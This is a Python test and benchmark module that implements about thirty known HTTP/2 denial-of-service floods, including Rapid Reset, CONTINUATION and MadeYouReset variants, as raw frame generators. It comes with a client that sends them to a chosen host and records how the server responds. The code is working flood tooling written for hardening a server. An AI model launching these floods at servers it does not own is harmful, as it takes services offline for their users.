"""Known attacks on HTTP/2 servers, as bytes: for the tests and for `python -m bench.abuse`.

An attack is a generator of what to send next. An `Enemy` sends it, keeps no rule of its own, and notes what it is told.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import struct
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from itertools import count, repeat
from typing import Self

from hpack import Decoder, Encoder

__all__ = ["FLOODS", "PREFACE", "Enemy", "Requests", "frame", "reset", "settings", "window_update"]

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
CANCEL = 8
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEAD_BYTES = 9
_BATCH_FRAMES = 50

Fields = Sequence[tuple[str, str]]


def frame(kind: int, flags: int = 0, stream_id: int = 0, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big") + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    """A SETTINGS frame."""
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *pair) for pair in pairs))


def window_update(stream_id: int, by: int) -> bytes:
    """A WINDOW_UPDATE frame."""
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", by))


def reset(stream_id: int) -> bytes:
    """A RST_STREAM frame."""
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))


class Requests:
    """HEADERS of the requests of one connection."""

    def __init__(self, authority: str = "a.example") -> None:
        self._authority = authority
        self._encoder = Encoder()
        self._next_id = 1

    def new_id(self) -> int:
        """The id of a stream that is to be opened."""
        self._next_id += 2
        return self._next_id - 2

    def block(self, fields: Fields) -> bytes:
        """A header block; what the server remembers of it is known to the next one."""
        return self._encoder.encode(fields)

    def get(
        self, stream_id: int, path: str = "/", more: Fields = (), *, flags: int = END_STREAM | END_HEADERS
    ) -> bytes:
        """HEADERS of a plain request."""
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", self._authority), (":path", path), *more]
        return frame(HEADERS, flags, stream_id, self.block(fields))

    def post(self, stream_id: int, path: str = "/", more: Fields = (), *, flags: int = END_HEADERS) -> bytes:
        """HEADERS of a request with a body."""
        fields = [(":method", "POST"), (":scheme", "http"), (":authority", self._authority), (":path", path), *more]
        return frame(HEADERS, flags, stream_id, self.block(fields))

    def connect(self, stream_id: int, path: str = "/ws") -> bytes:
        """HEADERS of a WebSocket handshake."""
        fields = [
            (":method", "CONNECT"),
            (":protocol", "websocket"),
            (":scheme", "http"),
            (":authority", self._authority),
            (":path", path),
            ("sec-websocket-version", "13"),
        ]
        return frame(HEADERS, END_HEADERS, stream_id, self.block(fields))


class Enemy(Requests):
    """A client that does what it is told, and notes what it hears."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, authority: str) -> None:
        super().__init__(authority)
        self._reader, self._writer = reader, writer
        self._decoder = Decoder()
        self.goaway: int | None = None
        """The first code of a GOAWAY but NO_ERROR, or that."""
        self.reset: dict[int, int] = {}
        self.statuses: dict[int, int] = {}
        self.taken: Counter[int] = Counter()
        """Bytes of DATA of each stream."""
        self.block_bytes = 0
        """Size of the largest header block."""
        self.heard: Counter[int] = Counter()
        """Frames of each type."""
        self.ended = asyncio.Event()
        """The server says no more."""
        self._hearing = asyncio.get_running_loop().create_task(self._hear())

    @classmethod
    async def meet(cls, host: str, port: int, context: ssl.SSLContext | None = None) -> Self:
        """Connected, and nothing said."""
        name = None if context is None else "localhost"
        reader, writer = await asyncio.open_connection(host, port, ssl=context, server_hostname=name)
        return cls(reader, writer, f"{host}:{port}")

    async def greet(self, *pairs: tuple[int, int]) -> None:
        """Say the preface, and settings."""
        await self.send(PREFACE + settings(*pairs))

    async def send(self, data: bytes) -> None:
        """Send it, if anybody is left who listens."""
        self._writer.write(data)
        with contextlib.suppress(ConnectionError):
            await self._writer.drain()

    def say_no_more(self) -> None:
        """End our side, and listen on."""
        self._writer.write_eof()

    async def flood(self, attack: Iterable[bytes], most: int) -> int:
        """Send an attack until the server says GOAWAY or is gone; how many pieces that took, `most` at most."""
        sent = 0
        batch: list[bytes] = []
        for piece in attack:
            batch.append(piece)
            sent += 1
            if len(batch) == _BATCH_FRAMES:
                await self.send(b"".join(batch))
                batch.clear()
                await asyncio.sleep(0)
            if sent == most or self.goaway is not None or self.ended.is_set():
                break
        await self.send(b"".join(batch))
        return sent

    async def __aenter__(self) -> Self:
        return self

    async def __aexit__(self, *_: object) -> None:
        """Leave, without a goodbye."""
        self._hearing.cancel()
        await asyncio.gather(self._hearing, return_exceptions=True)
        self._writer.transport.abort()
        with contextlib.suppress(ConnectionError, ssl.SSLError):
            await self._writer.wait_closed()

    # --- what is heard

    async def _hear(self) -> None:
        try:
            while True:
                head = await self._reader.readexactly(_HEAD_BYTES)
                payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                self._heed(head[3], head[4], int.from_bytes(head[5:], "big"), payload)
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError):
            self.ended.set()

    def _heed(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        self.heard[kind] += 1
        if kind == GOAWAY:
            self.goaway = self.goaway or int.from_bytes(payload[4:8], "big")
        elif kind == RST_STREAM:
            self.reset[stream_id] = int.from_bytes(payload, "big")
        elif kind == HEADERS and flags & END_HEADERS:
            self.block_bytes = max(self.block_bytes, len(payload))
            self.statuses[stream_id] = int(dict(self._decoder.decode(payload))[":status"])
        elif kind == DATA:
            self.taken[stream_id] += len(payload)


# --- floods: endless


def rapid_reset_of_tunnels(enemy: Enemy) -> Iterator[bytes]:
    """CVE-2023-44487: each stream is opened and reset at once."""
    while True:
        stream_id = enemy.new_id()
        yield enemy.connect(stream_id) + reset(stream_id)


def rapid_reset_of_requests(enemy: Enemy) -> Iterator[bytes]:
    """CVE-2023-44487, with plain requests."""
    while True:
        stream_id = enemy.new_id()
        yield enemy.get(stream_id) + reset(stream_id)


def paid_reset(enemy: Enemy) -> Iterator[bytes]:
    """Rapid reset, with a byte for a tunnel before each."""
    tunnel = enemy.new_id()
    yield enemy.connect(tunnel)
    while True:
        stream_id = enemy.new_id()
        yield frame(DATA, 0, tunnel, b"x") + enemy.connect(stream_id) + reset(stream_id)


def resets_of_nothing(enemy: Enemy) -> Iterator[bytes]:
    """RST_STREAM of a stream that is over."""
    stream_id = enemy.new_id()
    yield enemy.get(stream_id) + reset(stream_id)
    yield from repeat(reset(stream_id))


def made_to_reset_by_data(enemy: Enemy) -> Iterator[bytes]:
    """CVE-2025-8671: DATA behind END_STREAM makes the server reset."""
    while True:
        stream_id = enemy.new_id()
        yield enemy.get(stream_id) + frame(DATA, 0, stream_id, b"x")


def made_to_reset_by_headers(enemy: Enemy) -> Iterator[bytes]:
    """CVE-2025-8671: HEADERS behind END_STREAM make the server reset."""
    while True:
        stream_id = enemy.new_id()
        yield enemy.get(stream_id) + enemy.get(stream_id)


def made_to_reset_by_length(enemy: Enemy) -> Iterator[bytes]:
    """CVE-2025-8671: a body that is longer than was said."""
    while True:
        stream_id = enemy.new_id()
        yield enemy.post(stream_id, more=[("content-length", "1")]) + frame(DATA, 0, stream_id, b"four")


def made_to_reset_by_nothing(enemy: Enemy) -> Iterator[bytes]:
    """CVE-2025-8671: a WINDOW_UPDATE of nothing."""
    while True:
        stream_id = enemy.new_id()
        yield enemy.get(stream_id) + window_update(stream_id, 0)


def made_to_reset_by_too_much(enemy: Enemy) -> Iterator[bytes]:
    """CVE-2025-8671: a window beyond 2^31-1."""
    while True:
        stream_id = enemy.new_id()
        yield enemy.connect(stream_id) + window_update(stream_id, 2**31 - 1)


def made_to_refuse(enemy: Enemy) -> Iterator[bytes]:
    """Streams beyond SETTINGS_MAX_CONCURRENT_STREAMS, each of which is reset."""
    while True:
        yield enemy.connect(enemy.new_id(), "/silent")


def trailers_of_nothing(enemy: Enemy) -> Iterator[bytes]:
    """HEADERS of a stream that has been reset."""
    stream_id = enemy.new_id()
    yield enemy.connect(stream_id) + reset(stream_id)
    while True:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream_id, enemy.block([("a", "b")]))


def continuation(enemy: Enemy) -> Iterator[bytes]:
    """VU#421644: a header block that goes on and on."""
    stream_id = enemy.new_id()
    yield enemy.get(stream_id, flags=END_STREAM)
    yield from (frame(CONTINUATION, 0, stream_id, enemy.block([(f"x-{n}", "y")])) for n in count())


def continuation_of_nothing(enemy: Enemy) -> Iterator[bytes]:
    """VU#421644: CONTINUATION without a byte."""
    stream_id = enemy.new_id()
    yield enemy.get(stream_id, flags=END_STREAM)
    yield from repeat(frame(CONTINUATION, 0, stream_id))


def continuations_that_end(enemy: Enemy) -> Iterator[bytes]:
    """Every request in two frames, the second without a byte."""
    while True:
        stream_id = enemy.new_id()
        yield enemy.get(stream_id, flags=END_STREAM) + frame(CONTINUATION, END_HEADERS, stream_id)


def large_continuation(enemy: Enemy) -> Iterator[bytes]:
    """A header block in large frames."""
    stream_id = enemy.new_id()
    yield enemy.get(stream_id, flags=END_STREAM)
    yield from repeat(frame(CONTINUATION, 0, stream_id, bytes(8192)))


def pings(_: Enemy) -> Iterator[bytes]:
    """CVE-2019-9512."""
    return repeat(frame(PING, 0, 0, bytes(8)))


def pongs(_: Enemy) -> Iterator[bytes]:
    """Answers to no PING."""
    return repeat(frame(PING, ACK, 0, bytes(8)))


def many_settings(_: Enemy) -> Iterator[bytes]:
    """CVE-2019-9515."""
    return repeat(settings())


def settings_acks(_: Enemy) -> Iterator[bytes]:
    """Acknowledgements of nothing."""
    return repeat(frame(SETTINGS, ACK))


def toggled_windows(enemy: Enemy) -> Iterator[bytes]:
    """INITIAL_WINDOW_SIZE to and fro, while streams have something to send."""
    yield b"".join(enemy.get(enemy.new_id(), "/large") for _ in range(100))
    while True:
        yield settings((INITIAL_WINDOW_SIZE, 0))
        yield settings((INITIAL_WINDOW_SIZE, 1))


def toggled_tables(_: Enemy) -> Iterator[bytes]:
    """HEADER_TABLE_SIZE to and fro."""
    while True:
        yield settings((HEADER_TABLE_SIZE, 0))
        yield settings((HEADER_TABLE_SIZE, 2**32 - 1))


def empty_data(enemy: Enemy) -> Iterator[bytes]:
    """CVE-2019-9518, in a tunnel."""
    stream_id = enemy.new_id()
    yield enemy.connect(stream_id)
    yield from repeat(frame(DATA, 0, stream_id))


def empty_data_of_a_body(enemy: Enemy) -> Iterator[bytes]:
    """CVE-2019-9518, in a body."""
    stream_id = enemy.new_id()
    yield enemy.post(stream_id, "/ws")
    yield from repeat(frame(DATA, 0, stream_id))


def padding(enemy: Enemy) -> Iterator[bytes]:
    """DATA of padding alone, in a tunnel."""
    stream_id = enemy.new_id()
    yield enemy.connect(stream_id)
    yield from repeat(frame(DATA, PADDED, stream_id, b"\3\0\0\0"))


def data_of_nothing(enemy: Enemy) -> Iterator[bytes]:
    """DATA of a stream that has been reset."""
    stream_id = enemy.new_id()
    yield enemy.connect(stream_id) + reset(stream_id)
    yield from repeat(frame(DATA, 0, stream_id, b"x"))


def priorities(_: Enemy) -> Iterator[bytes]:
    """CVE-2019-9513."""
    for n in count():
        yield frame(PRIORITY, 0, n % 1000 * 2 + 1, struct.pack(">IB", n % 7, n % 256))


def unknown(_: Enemy) -> Iterator[bytes]:
    """Frames of a type that nobody knows."""
    return repeat(frame(0xEE, 0, 0, b"hello"))


def window_updates(_: Enemy) -> Iterator[bytes]:
    """The connection's window, by a byte."""
    return repeat(window_update(0, 1))


def window_by_bytes(enemy: Enemy) -> Iterator[bytes]:
    """CVE-2019-9511: a large answer, asked for by single bytes."""
    yield settings((INITIAL_WINDOW_SIZE, 0))
    stream_id = enemy.new_id()
    yield enemy.get(stream_id, "/large")
    yield from repeat(window_update(stream_id, 1))


def goaways(enemy: Enemy) -> Iterator[bytes]:
    """GOAWAY, of a client that has a tunnel."""
    yield enemy.connect(enemy.new_id())
    yield from repeat(frame(GOAWAY, 0, 0, bytes(8)))


FLOODS: dict[str, tuple[Callable[[Enemy], Iterator[bytes]], frozenset[int]]] = {}
"""Each flood, and the codes of GOAWAY that may answer it."""

_CALM, _PROTOCOL, _FLOW, _CLOSED = 11, 1, 3, 5
for _attack, _codes in (
    (rapid_reset_of_tunnels, {_CALM}),
    (rapid_reset_of_requests, {_CALM}),
    (paid_reset, {_CALM}),
    (resets_of_nothing, {_CALM}),
    (made_to_reset_by_data, {_CALM, _CLOSED}),
    (made_to_reset_by_headers, {_CALM, _CLOSED, _PROTOCOL}),
    (made_to_reset_by_length, {_CALM, _PROTOCOL}),
    (made_to_reset_by_nothing, {_PROTOCOL}),
    (made_to_reset_by_too_much, {_FLOW}),
    (made_to_refuse, {_CALM}),
    (trailers_of_nothing, {_CALM, _CLOSED}),
    (continuation, {_CALM}),
    (continuation_of_nothing, {_CALM}),
    (continuations_that_end, {_CALM}),
    (large_continuation, {_CALM}),
    (pings, {_CALM}),
    (pongs, {_CALM}),
    (many_settings, {_CALM}),
    (settings_acks, {_CALM}),
    (toggled_windows, {_CALM}),
    (toggled_tables, {_CALM}),
    (empty_data, {_CALM}),
    (empty_data_of_a_body, {_CALM}),
    (padding, {_CALM}),
    (data_of_nothing, {_CALM}),
    (priorities, {_CALM}),
    (unknown, {_CALM}),
    (window_updates, {_CALM}),
    (window_by_bytes, {_CALM}),
    (goaways, {_CALM}),
):
    FLOODS[_attack.__name__] = (_attack, frozenset(_codes))
